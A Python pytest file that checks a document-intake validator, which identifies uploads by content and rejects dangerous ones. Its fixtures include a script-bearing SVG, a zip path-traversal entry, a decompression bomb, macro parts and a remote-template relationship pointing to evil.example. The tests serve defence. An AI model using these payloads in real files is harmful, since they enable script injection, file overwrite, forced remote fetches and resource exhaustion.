"""What is taken from who hands a document in: by its content, without what would harm a reader."""

import io
import zipfile
from collections.abc import Mapping

import pytest

from bureau.core.reasons import Refused
from bureau.documents import given
from bureau.documents.given import MEDIA_TYPES, kind_of

PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
ODT = MEDIA_TYPES["odt"].encode()
TEMPLATE = (
    b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t"'
    b' TargetMode="External"/></Relationships>'
)


def packed(parts: Mapping[str, bytes]) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return written.getvalue()


DOCX = packed({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"})


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (PDF, "pdf"),
        (DOCX, "docx"),
        (packed({"xl/workbook.xml": b""}), "xlsx"),
        (packed({"ppt/presentation.xml": b""}), "pptx"),
        (packed({"mimetype": ODT, "content.xml": b""}), "odt"),
        (packed({"word/document.xml": b"", given.SETTINGS: b"<Relationships/>"}), "docx"),
    ],
)
def test_a_kind_is_known_by_its_content(content: bytes, kind: str) -> None:
    assert kind_of(content) == kind


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "file_empty"),
        (b"<svg onload=alert(1)>", "file_kind_not_taken"),
        (b"MZ\x90\x00", "file_kind_not_taken"),
        (PDF[:40], "file_damaged"),
        (PDF.replace(b"/Root", b"/Encrypt 5 0 R/Root"), "file_locked"),
        (DOCX[:80], "file_damaged"),
        (packed({"a.txt": b"a"}), "file_kind_not_taken"),
        (packed({"mimetype": b"application/epub+zip"}), "file_kind_not_taken"),
        (packed({"mimetype": ODT, "Basic/Standard/m.xml": b""}), "file_has_macros"),
        (packed({"word/document.xml": b"", "word/vbaProject.bin": b""}), "file_has_macros"),
        (packed({"word/document.xml": b"", "../../evil": b""}), "file_unsafe"),
        (packed({"word/document.xml": b"0" * 130_000_000}), "file_grows"),
        (packed({"word/document.xml": b"", given.SETTINGS: TEMPLATE}), "file_fetches"),
        (packed({"word/document.xml": b"", given.SETTINGS: b"0" * 1_000_001}), "file_grows"),
        (b"%PDF-" + b"0" * given.BYTES_MOST, "file_too_large"),
    ],
)
def test_what_would_harm_or_cannot_be_read_is_refused(content: bytes, code: str) -> None:
    with pytest.raises(Refused, match=code):
        kind_of(content)
